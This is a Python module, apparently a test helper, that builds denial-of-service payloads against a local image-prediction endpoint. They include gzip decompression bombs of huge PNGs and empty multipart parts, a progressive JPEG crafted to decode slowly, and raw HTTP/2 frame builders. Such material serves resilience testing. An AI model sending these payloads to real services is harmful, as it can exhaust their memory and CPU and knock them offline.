"""What the attacks send."""

import base64
import gzip
import json
import struct
import zlib


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width, height):
    """A black picture of one bit a pixel: some KB, whatever its size."""
    rows = (b"\0" * (1 + (width + 7) // 8)) * height
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b"")


def pictures(count):
    """Many pictures of 25 megapixels each, packed small."""
    face = {"b64": base64.b64encode(png(5000, 5000)).decode()}
    return gzip.compress(json.dumps({"instances": [face] * count}).encode(), 9)


# A progressive JPEG of 16x16 gray pixels.
PROGRESSIVE = base64.b64decode(
    "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDACgcHiMeGSgjISMtKygwPGRBPDc3PHtYXUlkkYCZlo+AjIqgtObDoKrarYqMyP/L2u71////m8H///"
    "/6/+b9//j/wgALCAAQABABAREA/8QAFQABAQAAAAAAAAAAAAAAAAAAAwT/2gAIAQEAAAABGo0//8QAFxABAQEBAAAAAAAAAAAAAAAAAgEAEv/a"
    "AAgBAQABBQIzGYzO8n//xAAWEAADAAAAAAAAAAAAAAAAAAAAEGH/2gAIAQEABj8CdP/EABgQAAIDAAAAAAAAAAAAAAAAAAAxARAh/9oACAEBAA"
    "E/IbAStkH/2gAIAQEAAAAQT//EABsQAAICAwEAAAAAAAAAAAAAAAARATFRYXHw/9oACAEBAAE/EKCgoGbLqRmfaP/Z"
)


def scans(count, side=5000):
    """The progressive picture, its side changed in its head and its last scan there so many times: slow to decode, if one does."""
    size = PROGRESSIVE.index(b"\xff\xc2") + 5
    head = PROGRESSIVE[:size] + struct.pack(">HH", side, side) + PROGRESSIVE[size + 4 : -2]
    return head + head[head.rindex(b"\xff\xda") :] * count + b"\xff\xd9"


def empty_parts():
    """A form of 3.7 million empty parts, 64 MB unpacked."""
    return gzip.compress(b"--x\r\n\r\n\r\n\r\n--x\r\n\r\n"[:17] * 3_700_000 + b"--x--\r\n", 9)


def frame(kind, flags, stream, payload=b""):
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def post_head(port):
    """The head of a POST, its names and values as they are."""
    return (
        literal(b":method", b"POST")
        + literal(b":scheme", b"http")
        + literal(b":path", b"/v1/models/keypoints:predict")
        + literal(b":authority", f"localhost:{port}".encode())
    )
